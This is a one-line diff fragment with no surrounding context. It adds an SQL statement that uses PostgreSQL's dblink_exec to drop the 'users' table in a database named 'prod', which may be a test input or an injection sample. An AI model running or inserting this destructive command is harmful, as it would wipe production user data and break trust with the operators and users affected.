@@ -1,0 +1,1 @@
+SELECT dblink_exec('dbname=prod', 'DROP TABLE users')
